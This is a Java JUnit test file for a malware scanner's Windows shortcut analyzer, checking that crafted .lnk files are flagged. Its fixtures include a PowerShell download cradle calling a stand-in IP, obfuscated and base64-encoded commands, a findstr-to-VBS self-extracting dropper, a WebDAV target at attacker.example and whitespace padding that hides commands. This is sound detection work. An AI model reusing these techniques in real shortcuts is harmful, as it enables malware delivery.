package dev.prefilter.engine.lnk;

import static dev.prefilter.engine.lnk.ShortcutWriter.shortcut;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.prefilter.engine.analyze.Origin;
import dev.prefilter.engine.model.Finding;
import dev.prefilter.engine.model.Severity;
import dev.prefilter.engine.model.Verdict;
import dev.prefilter.engine.report.Report;
import dev.prefilter.engine.report.ReportNode;
import dev.prefilter.engine.score.ScoringPolicy;
import dev.prefilter.engine.testing.TestEngines;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** What the analyzer reports for shortcuts built by {@link ShortcutWriter}, through the whole engine. */
class LnkAnalyzerTest {

    private static Report scan(ShortcutWriter writer) {
        return TestEngines.scanFile("shortcut.lnk", writer.bytes());
    }

    private static Finding finding(Report report, String code) {
        return report.findings().stream()
                .filter(f -> f.code().equals(code))
                .findFirst()
                .orElseThrow(() -> new AssertionError("no " + code + " in " + TestEngines.codes(report)));
    }

    private static List<String> lnkCodes(Report report) {
        return TestEngines.codes(report).stream()
                .filter(c -> c.startsWith("lnk.") || c.startsWith("parse."))
                .toList();
    }

    @Test
    void anOrdinaryProgramWithArgumentsIsSuspiciousOnlyBecauseItIsAShortcut() {
        Report report = scan(shortcut()
                .idList(
                        ShortcutWriter.rootFolder(ShortcutWriter.MY_COMPUTER),
                        ShortcutWriter.drive("C:\\"),
                        ShortcutWriter.folder("ANONYM~1", "AnonymusBrowser-v2.0"),
                        ShortcutWriter.file("ANONYM~1.EXE", "AnonymusBrowser.exe", 91_136))
                .fileSize(91_136)
                .workingDir("C:\\AnonymusBrowser-v2.0")
                .arguments("no_ipcheck no_resize"));
        assertEquals(Verdict.SUSPICIOUS, report.verdict());
        assertEquals(List.of(), lnkCodes(report));
        assertTrue(TestEngines.codes(report).contains("type.shortcut"));
    }

    @Test
    void anInterpreterWithACommandLineIsMalicious() {
        Report report = scan(ShortcutWriter.toCmd().arguments("/c start notepad"));
        assertEquals(Verdict.MALICIOUS, report.verdict());
        Finding f = finding(report, "lnk.interpreter-command");
        assertEquals(Severity.CRITICAL, f.severity());
        assertEquals("cmd.exe", f.evidence().get("program"));
        assertEquals("interpreter", f.evidence().get("kind"));
        assertEquals("C:\\Windows\\System32\\cmd.exe", f.evidence().get("target"));
        assertEquals("/c start notepad", f.evidence().get("arguments"));
    }

    @Test
    void theInterpreterIsFoundInWhicheverTargetFieldNamesIt() {
        Report viaEnvironment = scan(shortcut()
                .extra(ShortcutWriter.environment("%windir%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"))
                .withFlags(0x200)
                .arguments("-c Get-Date"));
        assertEquals(
                "powershell.exe",
                finding(viaEnvironment, "lnk.interpreter-command").evidence().get("program"));
        Report viaRelativePath = scan(
                shortcut().relativePath("..\\..\\Windows\\System32\\mshta.exe").arguments("about:blank"));
        assertEquals(Verdict.MALICIOUS, viaRelativePath.verdict());
        Report lolbin = scan(shortcut()
                .localLinkInfo(3, 1, "", "C:\\Windows\\System32\\rundll32.exe", "")
                .arguments("C:\\Users\\Public\\x.dll,Start"));
        assertEquals(
                "lolbin", finding(lolbin, "lnk.interpreter-command").evidence().get("kind"));
    }

    @Test
    void anInterpreterWithoutArgumentsIsSuspicious() {
        Report report = scan(ShortcutWriter.toCmd());
        assertEquals(Verdict.SUSPICIOUS, report.verdict());
        assertEquals(Severity.HIGH, finding(report, "lnk.interpreter-target").severity());
        assertFalse(TestEngines.codes(report).contains("lnk.interpreter-command"));
    }

    @Test
    void argumentsThatStartAnInterpreterAreReportedWhateverTheTarget() {
        Report report = scan(shortcut()
                .localLinkInfo(3, 1, "", "C:\\Tools\\launcher.exe", "")
                .arguments("run c^m^d /c whoami"));
        Finding f = finding(report, "lnk.interpreter-in-arguments");
        assertEquals("cmd", f.evidence().get("program"));
        assertTrue(TestEngines.codes(report).contains("lnk.obfuscated-command"));
        assertFalse(lnkCodes(scan(shortcut()
                        .localLinkInfo(3, 1, "", "C:\\Tools\\viewer.exe", "")
                        .arguments("--open report at /tmp")))
                .contains("lnk.interpreter-in-arguments"));
    }

    @Test
    void commandLineCategories() {
        Map<String, String> examples = Map.of(
                "lnk.encoded-command", "-NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=",
                "lnk.download-cradle", "-c \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')\"",
                "lnk.self-extraction",
                        "/v:on /c findstr \"glKmfOKnQLYKnNs.*\" Form.pdf.lnk > \"%tmp%\\YlScZcZKeP.vbs\" "
                                + "& \"%tmp%\\YlScZcZKeP.vbs\"",
                "lnk.obfuscated-command", "/c set x=calc&& call %x:~0,4%",
                "lnk.hidden-execution", "-ExecutionPolicy Bypass -File x.ps1",
                "lnk.url-in-command", "/c start https://example.test/invoice");
        examples.forEach((code, arguments) -> {
            Report report = scan(ShortcutWriter.toCmd().arguments(arguments));
            Finding f = finding(report, code);
            assertNotNull(f.evidence().get("match"), code);
            assertEquals(Verdict.MALICIOUS, report.verdict(), code);
        });
        assertEquals(
                List.of("https://example.test/invoice"),
                finding(
                                scan(ShortcutWriter.toCmd().arguments("/c start https://example.test/invoice")),
                                "lnk.url-in-command")
                        .evidence()
                        .get("urls"));
    }

    @Test
    void downloadAndEncodedCommandsAreMaliciousEvenBehindAnUnknownTarget() {
        Report report = scan(shortcut().arguments("-w h -e JABjAD0AbgBlAHcALQBvAGIAagBlAGMAdAAgAA=="));
        assertEquals(Verdict.MALICIOUS, report.verdict());
        assertTrue(TestEngines.codes(report).containsAll(List.of("lnk.encoded-command", "lnk.hidden-execution")));
        Report carets = scan(shortcut().arguments("/c p^o^w^e^r^s^h^e^l^l -c \"i`e`x(iwr http://192.0.2.1/p)\""));
        assertTrue(
                TestEngines.codes(carets)
                        .containsAll(List.of(
                                "lnk.download-cradle", "lnk.obfuscated-command", "lnk.interpreter-in-arguments")),
                TestEngines.codes(carets).toString());
    }

    @Test
    void paddingThatPushesTheCommandOutOfViewIsReported() {
        Report arguments = scan(ShortcutWriter.toCmd().arguments(" ".repeat(280) + "/c calc"));
        Finding padded = finding(arguments, "lnk.padded-arguments");
        assertEquals(287, padded.evidence().get("storedChars"));
        assertEquals(280, padded.evidence().get("blankRun"));
        assertEquals(
                "[280 blanks]/c calc",
                finding(arguments, "lnk.interpreter-command").evidence().get("arguments"));
        Report workingDir = scan(ShortcutWriter.toCmd().workingDir("C:\\Windows\\System32" + " ".repeat(241)));
        assertTrue(TestEngines.codes(workingDir).contains("lnk.padded-working-dir"));
        assertFalse(TestEngines.codes(scan(ShortcutWriter.toCmd().arguments("/c echo " + "x".repeat(400))))
                .contains("lnk.padded-arguments"));
    }

    @Test
    void minimisedWindowDecoyIconAndZeroSize() {
        Report report = scan(ShortcutWriter.toCmd()
                .fileSize(0)
                .showCommand(7)
                .arguments("/c calc")
                .iconLocation("C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe"));
        assertEquals(
                "SW_SHOWMINNOACTIVE",
                finding(report, "lnk.minimized-window").evidence().get("showCommand"));
        assertEquals(Severity.MEDIUM, finding(report, "lnk.minimized-window").severity());
        assertEquals(
                "C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe",
                finding(report, "lnk.decoy-icon").evidence().get("iconLocation"));
        assertEquals(Severity.LOW, finding(report, "lnk.zero-target-size").severity());
        Report documentIcon = scan(ShortcutWriter.toCmd().iconLocation("C:\\Users\\Public\\invoice.pdf"));
        assertTrue(TestEngines.codes(documentIcon).contains("lnk.decoy-icon"));
        Report ordinary = scan(shortcut()
                .localLinkInfo(3, 1, "", "C:\\Tools\\viewer.exe", "")
                .iconLocation("%SystemRoot%\\System32\\shell32.dll"));
        assertFalse(TestEngines.codes(ordinary).contains("lnk.decoy-icon"));
    }

    @Test
    void remoteTargets() {
        Report unc = scan(shortcut().networkLinkInfo("\\\\198.51.100.4\\share", null, 0x00020000, "run.exe"));
        assertEquals("unc", finding(unc, "lnk.remote-target").evidence().get("kind"));
        assertEquals(
                "WNNC_NET_LANMAN", finding(unc, "lnk.remote-target").evidence().get("provider"));
        Report webdav = scan(shortcut().localLinkInfo(3, 1, "", "\\\\attacker.example@SSL\\DavWWWRoot\\a.vbs", ""));
        assertEquals("webdav", finding(webdav, "lnk.remote-target").evidence().get("kind"));
        Report web = scan(shortcut().idList(ShortcutWriter.uri("https://example.test/x.hta")));
        assertEquals("url", finding(web, "lnk.remote-target").evidence().get("kind"));
        assertEquals(null, ShortcutChecks.remoteKind("\\\\.\\STORAGE#Volume#1\\x.cpl"));
        assertEquals(null, ShortcutChecks.remoteKind("C:\\x"));
        assertEquals(null, ShortcutChecks.remoteKind("file:///C:/x.pdf"));
        assertEquals("unc", ShortcutChecks.remoteKind("file://server/share/x.exe"));
        assertEquals("unc", ShortcutChecks.remoteKind("\\\\?\\UNC\\server\\share\\x.exe"));
    }

    @Test
    void appendedBytesBecomeAnAppendedChildThatIsTypedAndAnalysed() {
        byte[] script =
                "Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"\r\n".getBytes(StandardCharsets.US_ASCII);
        byte[] bytes = ShortcutWriter.toCmd()
                .arguments("/c findstr /b \"Set s\" invoice.pdf.lnk > %tmp%\\a.vbs & %tmp%\\a.vbs")
                .appended(script)
                .bytes();
        Report report = TestEngines.scanFile("invoice.pdf.lnk", bytes);
        assertEquals(Verdict.MALICIOUS, report.verdict());
        Finding appended = finding(report, "lnk.appended-data");
        assertEquals((long) bytes.length - script.length, appended.evidence().get("offset"));
        assertEquals((long) script.length, appended.evidence().get("size"));
        assertTrue(TestEngines.codes(report).contains("lnk.self-extraction"));
        ReportNode child = TestEngines.node(report, "appended data");
        assertEquals(Origin.APPENDED, child.origin());
        assertEquals(script.length, child.size());
        assertEquals(appended.evidence().get("sha256"), child.sha256());
    }

    @Test
    void anAppendedExecutableIsReportedAsStaged() {
        byte[] pe = new byte[512];
        pe[0] = 'M';
        pe[1] = 'Z';
        ShortcutWriter.setU32(pe, 0x3C, 0x80);
        pe[0x80] = 'P';
        pe[0x81] = 'E';
        Report report = scan(ShortcutWriter.toCmd().appended(pe));
        ReportNode child = TestEngines.node(report, "appended data");
        assertTrue(child.detectedType().startsWith("application/x-msdownload"), child.toString());
        assertTrue(
                TestEngines.codes(report).contains("type.executable-hidden"),
                TestEngines.codes(report).toString());
    }

    @Test
    void theTrackerIsAnIocWithoutWeight() {
        Report report = scan(shortcut()
                .localLinkInfo(3, 1, "", "C:\\Tools\\viewer.exe", "")
                .extra(ShortcutWriter.tracker(
                        "desktop-eie2fiq",
                        "F12D3570-03C2-43E3-86FC-C75D680751B6",
                        "43633D26-86A9-11EA-9C2D-B8AEED8E1A7A")));
        Finding tracker = finding(report, "lnk.tracker");
        assertEquals(Severity.INFO, tracker.severity());
        assertEquals("desktop-eie2fiq", tracker.evidence().get("machineId"));
        assertEquals("b8:ae:ed:8e:1a:7a", tracker.evidence().get("mac"));
        assertEquals(Verdict.SUSPICIOUS, report.verdict());
    }

    @Test
    void aShortcutThatCannotBeParsedIsReportedAndNotClean() {
        Report report = TestEngines.scanFile("broken.lnk", new byte[] {0x4C, 0, 0, 0, 1, 0x14, 2, 0});
        Finding parse = finding(report, "parse.lnk");
        assertEquals(1, parse.evidence().get("problemCount"));
        assertEquals(Verdict.SUSPICIOUS, report.verdict());
        assertFalse(TestEngines.codes(report).contains("analyzer.failed"));
    }

    /** These verdicts are product decisions: an operator who softens a severity does not soften them. */
    @Test
    void thePolicyPinsTheShortcutVerdicts() {
        ScoringPolicy policy = ScoringPolicy.defaults();
        for (String code : List.of(
                "lnk.interpreter-command", "lnk.encoded-command", "lnk.download-cradle", "lnk.self-extraction")) {
            assertEquals(
                    Verdict.MALICIOUS,
                    policy.effectOf(Finding.of(code, Severity.HIGH, "x").build())
                            .verdict(),
                    code);
        }
        ScoringPolicy.Effect tracker =
                policy.effectOf(Finding.of("lnk.tracker", Severity.HIGH, "x").build());
        assertEquals(new ScoringPolicy.Effect(0, Verdict.CLEAN), tracker);
    }

    @Test
    void factsAreOnTheShortcutNode() {
        Report report = scan(ShortcutWriter.toCmd().arguments("/c calc"));
        ShortcutFacts facts = (ShortcutFacts) report.root().facts().get("lnk");
        assertEquals("C:\\Windows\\System32\\cmd.exe", facts.targetPath());
        assertEquals("/c calc", facts.arguments());
    }
}
